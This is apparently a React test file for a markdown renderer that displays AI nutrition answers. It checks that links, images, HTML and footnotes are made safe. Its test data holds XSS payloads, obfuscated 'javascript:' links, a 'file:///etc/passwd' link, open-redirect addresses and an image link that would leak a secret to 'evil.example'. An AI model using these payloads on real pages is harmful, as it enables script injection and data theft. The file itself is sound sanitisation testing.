import { render, screen, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { fakeFetch } from '../../../testing/fake-fetch.ts';
import { aListFood } from '../../../testing/foods.ts';
import { renderApp } from '../../../testing/render-app.tsx';
import { AskAgain } from './ask-again.ts';
import { insidePath, MarkdownText, safeAddress } from './markdown.tsx';

afterEach(() => vi.unstubAllGlobals());

const show = async (markdown: string) => (await renderApp(<MarkdownText id="m1">{markdown}</MarkdownText>)).container;

describe('markdown of an answer', () => {
  it('becomes elements: emphasis, lists, a table, code, a struck word', async () => {
    const page = await show('**bold** ~~gone~~\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nx = 1\n```');
    for (const tag of ['strong', 'del', 'ul', 'table', 'pre code']) expect(page.querySelector(tag)).not.toBeNull();
    expect(screen.getByRole('region', { name: 'Table' }).tabIndex).toBe(0);
  });

  it('never makes elements of HTML', async () => {
    const page = await show(
      '<img src=x onerror=alert(1)> <b>hi</b>\n\n<script>alert(1)</script>\n\n<iframe src="https://x.example"></iframe>',
    );
    expect(page.querySelector('img, b, script, iframe')).toBeNull();
    expect(page.textContent).toContain('onerror');
  });

  it.each([
    '![cup](https://evil.example/pixel.png?d=secret)',
    '![cup](data:image/png;base64,AAAA)',
    '![cup][p]\n\n[p]: https://evil.example/p.png',
    '![cup](/icons/icon-192.png)',
  ])('shows a picture by its words alone: %s', async (markdown) => {
    const page = await show(markdown);
    expect(page.querySelector('img, picture, source')).toBeNull();
    expect(page.innerHTML).not.toContain('evil.example');
    expect(page.textContent).toContain('cup');
  });

  it.each(['[x](javascript:alert(1))', '[x](data:text/html,a)', '[x](vbscript:a)', '<file:///etc/passwd>', '[x](JAVASCRIPT&#58;alert(1))'])(
    'blanks the link of %s',
    async (markdown) => {
      const page = await show(markdown);
      expect(page.querySelectorAll('a[href]')).toHaveLength(0);
    },
  );

  it.each(['http://who.int', 'https://who.int', 'irc://a.example/b', 'ircs://a.example/b', 'mailto:a@example.com', 'xmpp:a@example.com'])(
    'links to %s, in a tab of its own and without a trace',
    async (address) => {
      await show(`[source](${address})`);
      const link = screen.getByRole('link', { name: /^source/ });
      expect([link.getAttribute('href'), link.getAttribute('target'), link.getAttribute('rel')]).toEqual([
        address,
        '_blank',
        'noopener noreferrer nofollow',
      ]);
    },
  );

  it('offers a question as a button that sends what it reads, and as plain words where none can be sent', async () => {
    const ask = vi.fn();
    const offered = '[Is it vegan?](/ai-nutritionist?ask)';
    const { container } = await renderApp(
      <AskAgain value={ask}>
        <MarkdownText id="m1">{offered}</MarkdownText>
      </AskAgain>,
    );
    screen.getByRole('button', { name: 'Is it vegan?' }).click();
    expect(ask).toHaveBeenCalledExactlyOnceWith('Is it vegan?');
    expect(container.querySelector('a')).toBeNull();
    const plain = await show(offered);
    expect(plain.querySelector('button, a')).toBeNull();
    expect(plain.textContent).toContain('Is it vegan?');
  });

  it('stays in the app with a link to results', async () => {
    const { user, address } = await renderApp(<MarkdownText id="m1">[Skyr](/results/3017620422003)</MarkdownText>);
    await user.click(screen.getByRole('link', { name: 'Skyr' }));
    await waitFor(() => expect(address()).toBe('/results/3017620422003'));
  });

  it('keeps its headings below those of the page', async () => {
    await show('# One\n\n## Two\n\n### Three');
    expect(screen.getAllByRole('heading').map(({ tagName }) => tagName)).toEqual(['H3', 'H3', 'H4']);
  });

  it('names the marks of a task list', async () => {
    await show('- [x] soak\n- [ ] cook');
    expect(screen.getByRole('img', { name: 'Done' })).toBeDefined();
    expect(screen.getByRole('img', { name: 'To do' })).toBeDefined();
  });

  it('gives the footnotes of two messages names of their own, and takes labels of up to 999 characters', async () => {
    render(
      <>
        <MarkdownText id="m1">{'a[^1]\n\n[^1]: one'}</MarkdownText>
        <MarkdownText id="m2">{'b[^1]\n\n[^1]: two'}</MarkdownText>
      </>,
    );
    const ids = [...document.querySelectorAll('[id]')].map(({ id }) => id).filter((id) => id.includes('fn-1'));
    expect(ids).toEqual(['m1-fn-1', 'm2-fn-1']);
    const labelled = (length: number) => `x[^${'a'.repeat(length)}]\n\n[^${'a'.repeat(length)}]: note`;
    expect((await show(labelled(999))).querySelector('sup')).not.toBeNull();
    expect((await show(labelled(1000))).querySelector('sup')).toBeNull();
  });
});

describe('a list item about a product', () => {
  const PATH = 'GET /api/foods/barcode/3017620422003';

  it.each([
    ['- [Skyr](/results/3017620422003) (Arla): **88** (Great Match)', '88'],
    ['- 40 g [Skyr](/results/3017620422003): score **7 of 100**', '7'],
    ['1. [Skyr](/results/3017620422003): 11 g\n\n2. [Beans](/results/5449000000996): 7 g', null],
  ])('%s has its drawn pack, and the score that it states', async (markdown, score) => {
    fakeFetch({ [PATH]: { body: aListFood({ image: 'https://images.example/skyr.jpg' }) } });
    const page = await show(markdown);
    const item = page.querySelector('[data-product]');
    expect(item?.querySelector('svg')).not.toBeNull();
    expect(item?.querySelector('[data-level] b')?.textContent ?? null).toBe(score);
    expect(page.querySelector('img')).toBeNull();
  });

  it.each([
    '- Nothing but words',
    '- [who](https://who.int): **88**',
    '- Compared with what you had on Monday, [Skyr](/results/3017620422003) is better',
    '- **88** of [Skyr](/results/3017620422003)',
    '- [Skyr](/results/3017620422003): **88**\n- two more were high in sugars',
  ])('is none: %s', async (markdown) => expect((await show(markdown)).querySelector('[data-product]')).toBeNull());
});

describe('the address of a link', () => {
  it.each([
    'https://who.int/a?b=c#d',
    'http://example.com',
    'irc://irc.example/x',
    'ircs://irc.example/x',
    'mailto:a@example.com',
    'xmpp:a@example.com',
    '/results/3017620422003',
    '#note',
    '?q=a:b',
    'page',
  ])('%s stays', (address) => expect(safeAddress(address)).toBe(address));

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    '\u0001javascript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:https://x',
    'tel:112',
    'sms:1',
    'ftp://x',
    'intent://x',
    'x-y.z+1:a',
    'https&colon;'.replace('https', 'javascript:'),
  ])('%j is blanked', (address) => expect(safeAddress(address)).toBe(''));
});

describe('a link into the app', () => {
  const inside = (address: string) => insidePath(address, 'https://labelwise.example');

  it.each([
    ['/results/3017620422003', '/results/3017620422003'],
    ['https://labelwise.example/results/1?from=chat', '/results/1?from=chat'],
    ['/history', '/history'],
    ['results/7', '/results/7'],
  ])('%s opens %s', (address, path) => expect(inside(address)).toBe(path));

  it.each([
    'https://evil.example/results/1',
    '//evil.example/results/1',
    '/\\evil.example/results/1',
    '/api/ai/conversations',
    '#results',
    '',
    'mailto:a@example.com',
    'http://[',
  ])('%j is none', (address) => expect(inside(address)).toBeNull());
});
